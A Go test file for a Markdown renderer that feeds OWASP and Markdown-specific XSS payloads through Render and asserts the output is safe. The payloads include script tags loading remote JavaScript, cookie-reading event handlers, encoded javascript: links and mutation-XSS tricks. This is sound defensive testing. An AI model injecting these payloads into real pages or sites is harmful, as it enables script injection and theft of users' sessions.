package markdown

import (
	"fmt"
	"strings"
	"testing"
)

// owaspPayloads comes from the OWASP XSS Filter Evasion Cheat Sheet
// (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
// plus a few SVG, MathML and mutation-XSS classics the sheet points to.
// They are raw HTML: Render must show them as text, never as markup.
var owaspPayloads = []struct{ name, src string }{
	{"basic script", `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`},
	{"polyglot", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"},
	{"img javascript", `<IMG SRC="javascript:alert('XSS');">`},
	{"img no quotes", `<IMG SRC=javascript:alert('XSS')>`},
	{"img case", `<IMG SRC=JaVaScRiPt:alert('XSS')>`},
	{"img html entities", `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`},
	{"img grave accent", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"},
	{"malformed a onmouseover", `<a onmouseover="alert(document.cookie)">xxs link</a>`},
	{"malformed a no quotes", `<a onmouseover=alert(document.cookie)>xxs link</a>`},
	{"malformed img", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`},
	{"fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`},
	{"default src onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`},
	{"empty src", `<IMG SRC= onmouseover="alert('xxs')">`},
	{"no src", `<IMG onmouseover="alert('xxs')">`},
	{"onerror", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`},
	{"onerror encoded", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`},
	{"decimal entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`},
	{"long decimal no semicolons", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`},
	{"hex no semicolons", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`},
	{"embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"},
	{"encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`},
	{"encoded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{"encoded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`},
	{"null byte", "<IMG SRC=java\x00script:alert(\"XSS\")>"},
	{"spaces and meta chars", `<IMG SRC=" &#14;  javascript:alert('XSS');">`},
	{"non-alpha non-digit", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`},
	{"body onload garbage", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>"},
	{"script slash src", `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`},
	{"extraneous open brackets", `<<SCRIPT>alert("XSS");//\<</SCRIPT>`},
	{"no closing script", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`},
	{"protocol resolution", `<SCRIPT SRC=//xss.rocks/.j>`},
	{"half open", `<IMG SRC="` + "`('XSS')\""},
	{"double open angle", `<iframe src=http://xss.rocks/scriptlet.html <`},
	{"escaping js escapes", `\";alert('XSS');//`},
	{"end title", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`},
	{"input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`},
	{"body background", `<BODY BACKGROUND="javascript:alert('XSS')">`},
	{"img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`},
	{"img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`},
	{"list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`},
	{"vbscript img", `<IMG SRC='vbscript:msgbox("XSS")'>`},
	{"svg onload", `<svg/onload=alert('XSS')>`},
	{"body onload", `<BODY ONLOAD=alert('XSS')>`},
	{"bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`},
	{"js includes", `<BR SIZE="&{alert('XSS')}">`},
	{"link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`},
	{"remote stylesheet", `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`},
	{"style import", `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`},
	{"meta link header", `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`},
	{"moz binding", `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`},
	{"style escaped import", `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`},
	{"img style expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`},
	{"style type javascript", `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`},
	{"style class background", `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`},
	{"style background", `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`},
	{"anonymous element style", `<XSS STYLE="xss:expression(alert('XSS'))">`},
	{"behavior htc", `<XSS STYLE="behavior: url(xss.htc);">`},
	{"us-ascii", "¼script¾alert(¢XSS¢)¼/script¾"},
	{"meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`},
	{"meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`},
	{"meta refresh extra url", `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`},
	{"iframe", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`},
	{"iframe event", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`},
	{"frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`},
	{"table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`},
	{"td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`},
	{"div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`},
	{"div unicode escapes", `<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`},
	{"div expression", `<DIV STYLE="width: expression(alert('XSS'));">`},
	{"downlevel-hidden", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`},
	{"base href", `<BASE HREF="javascript:alert('XSS');//">`},
	{"object", `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`},
	{"embed svg", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`},
	{"script a gt", `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"script eq gt", `<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"script quoted gt", `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"document.write split", `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`},
	{"a javascript location", `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`},
	{"a entity javascript", `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`},
	{"a colon entity", `<a href="javascript&colon;alert(1)">x</a>`},
	{"a obfuscated host", "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS</A>"},
	{"svg script", `<svg><script>alert(1)</script></svg>`},
	{"svg xlink", `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`},
	{"svg animate", `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`},
	{"svg set href", `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>`},
	{"math mxss", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`},
	{"math href", `<math href="javascript:alert(1)">CLICKME</math>`},
	{"form action", `<form action="javascript:alert(1)"><input type=submit></form>`},
	{"button formaction", `<button formaction="javascript:alert(1)">x</button>`},
	{"nested script", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{"details ontoggle", `<details open ontoggle=alert(1)>`},
	{"noscript mxss", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
	{"object javascript", `<object data="javascript:alert(1)">`},
	{"textarea breakout", `</textarea><script>alert(1)</script>`},
	{"cdata", `<![CDATA[<script>alert(1)</script>]]>`},
	{"processing instruction", `<?xml-stylesheet href="javascript:alert(1)"?>`},
	{"doctype", `<!DOCTYPE html><script>alert(1)</script>`},
	{"html block breakout", "<div>\n\n<script>alert(1)</script>\n\n</div>"},
	{"backtick attribute", "<img src=`x` onerror=`alert(1)`>"},
}

// markdownPayloads abuse Markdown's own constructs.
var markdownPayloads = []struct{ name, src string }{
	{"link javascript", `[x](javascript:alert(1))`},
	{"link mixed case", `[x](JaVaScRiPt:alert(1))`},
	{"link decimal entity", `[x](&#106;avascript:alert(1))`},
	{"link hex entity", `[x](&#x6A;avascript:alert(1))`},
	{"link all entities", `[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))`},
	{"link named colon entity", `[x](javascript&colon;alert(1))`},
	{"link escaped colon", `[x](javascript\:alert(1))`},
	{"link tab entity", `[x](java&#09;script:alert(1))`},
	{"link newline entity", `[x](java&#10;script:alert(1))`},
	{"link null byte", "[x](java\x00script:alert(1))"},
	{"link null entity", `[x](java&#0;script:alert(1))`},
	{"link data html", `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`},
	{"link data image", `[x](data:image/png;base64,iVBORw0KGgo=)`},
	{"link data svg", `[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`},
	{"link vbscript", `[x](vbscript:msgbox(1))`},
	{"link file", `[x](file:///etc/passwd)`},
	{"link angle", `[x](<javascript:alert(1)>)`},
	{"link angle space", `[x](<java script:alert(1)>)`},
	{"link padded", `[x](   javascript:alert(1)   )`},
	{"link backticks", "[x](`javascript:alert(1)`)"},
	{"link title breakout", `[x](http://example.org "a\" onmouseover=\"alert(1)")`},
	{"link dest quote breakout", `[x](http://example.org/"onmouseover="alert(1))`},
	{"link text html", `[<img src=x onerror=alert(1)>](http://example.org)`},
	{"link around html link", `<a href="javascript:alert(1)">[x](http://example.org)</a>`},
	{"image javascript", `![x](javascript:alert(1))`},
	{"image onerror breakout", `![x](x"onerror="alert(1))`},
	{"image data svg", `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`},
	{"image in link", `[![x](http://example.org/i.png)](javascript:alert(1))`},
	{"autolink javascript", `<javascript:alert(1)>`},
	{"autolink upper", `<JAVASCRIPT:alert(1)>`},
	{"autolink vbscript", `<vbscript:msgbox(1)>`},
	{"autolink data", `<data:text/html,alert(1)>`},
	{"autolink entity", `<&#106;avascript:alert(1)>`},
	{"reference javascript", "[x][r]\n\n[r]: javascript:alert(1)"},
	{"reference angle title", "[x][r]\n\n[r]: <javascript:alert(1)> \"t\""},
	{"reference collapsed entity", "[r][]\n\n[r]: &#106;avascript:alert(1)"},
	{"reference shortcut image", "![r]\n\n[r]: javascript:alert(1)"},
	{"code span", "`<script>alert(1)</script>`"},
	{"fenced html", "```html\n<script>alert(1)</script>\n```"},
	{"fence info breakout", "```\" onmouseover=alert(1) x=\"\nx\n```"},
	{"fence info tag", "```<script>\nx\n```"},
	{"heading img", `# <img src=x onerror=alert(1)>`},
	{"table payloads", "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"},
	{"blockquote iframe", `> <iframe src=javascript:alert(1)>`},
	{"list svg", `- <svg onload=alert(1)>`},
	{"linkify quote", `www.example.org/"onmouseover=alert(1)`},
	{"linkify script", `https://example.org/<script>alert(1)</script>`},
	{"bare javascript", `javascript:alert(1)`},
	{"emphasis svg", `*<svg><script>alert(1)</script></svg>*`},
	{"strikethrough script", `~~<script>alert(1)</script>~~`},
	{"null inside tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"},
	{"style tag", `<style>body{display:none}</style>`},
	{"meta refresh", `<meta http-equiv=refresh content="0;url=http://evil.example">`},
	{"comment", `<!-- hidden --> visible`},
	{"html block types", "<script>\nalert(1)\n</script>\n\n<pre onmouseover=x>\n</pre>\n\n<textarea>\n</textarea>"},
}

// contexts wrap each raw payload in Markdown constructs.
var contexts = []struct{ name, format string }{
	{"raw", "%s"},
	{"paragraph", "Update: %s (more soon)"},
	{"heading", "## %s"},
	{"quote", "> %s"},
	{"list", "- %s\n- next"},
	{"emphasis", "**%s**"},
	{"link text", "[%s](https://example.org)"},
	{"link target", "[x](%s)"},
	{"table cell", "| a | b |\n|---|---|\n| %s | y |"},
	{"after fence", "```\ncode\n```\n%s"},
}

func TestRenderOWASP(t *testing.T) {
	for _, p := range owaspPayloads {
		for _, c := range contexts {
			t.Run(p.name+"/"+c.name, func(t *testing.T) {
				assertSafe(t, fmt.Sprintf(c.format, p.src))
			})
		}
	}
}

func TestRenderMarkdownPayloads(t *testing.T) {
	for _, p := range markdownPayloads {
		t.Run(p.name, func(t *testing.T) { assertSafe(t, p.src) })
	}
}

// assertSafe renders src, fails the test unless the result passes checkDOM,
// and returns it.
func assertSafe(t *testing.T, src string) string {
	t.Helper()
	out, err := Render(src)
	if err != nil {
		t.Fatalf("Render(%q): %v", src, err)
	}
	if err := checkDOM(string(out)); err != nil {
		t.Fatalf("Render(%q) = %s\nunsafe: %v", src, out, err)
	}
	if _, err := Text(src); err != nil {
		t.Fatalf("Text(%q): %v", src, err)
	}
	return string(out)
}

// A refused link loses its <a> altogether rather than keeping an empty or
// neutered href (goldmark alone would write href="").
func TestRenderDropsUnsafeLinks(t *testing.T) {
	for _, p := range markdownPayloads {
		t.Run(p.name, func(t *testing.T) {
			out, err := Render(p.src)
			if err != nil {
				t.Fatal(err)
			}
			for _, bad := range []string{`href=""`, `href="javascript`, `href="vbscript`, `href="data`, `href="file`, "<a rel"} {
				if strings.Contains(strings.ToLower(string(out)), bad) {
					t.Errorf("Render(%q) = %s: contains %s", p.src, out, bad)
				}
			}
		})
	}
}

// Each layer holds on its own: goldmark with our tree pass and raw-HTML
// renderer produces safe HTML before bluemonday sees it, and bluemonday alone
// neutralises every raw payload even if goldmark were to pass it through.
func TestRenderLayersHoldAlone(t *testing.T) {
	all := append(append([]struct{ name, src string }{}, owaspPayloads...), markdownPayloads...)
	for _, p := range all {
		t.Run("goldmark/"+p.name, func(t *testing.T) {
			out, err := renderUnsanitized(p.src)
			if err != nil {
				t.Fatal(err)
			}
			if err := checkDOM(string(out)); err != nil {
				t.Errorf("goldmark alone: %q gives %s\nunsafe: %v", p.src, out, err)
			}
		})
		t.Run("bluemonday/"+p.name, func(t *testing.T) {
			out := policy.Sanitize(p.src)
			if err := checkDOMRel(out, false); err != nil {
				t.Errorf("bluemonday alone: %q gives %s\nunsafe: %v", p.src, out, err)
			}
		})
	}
}
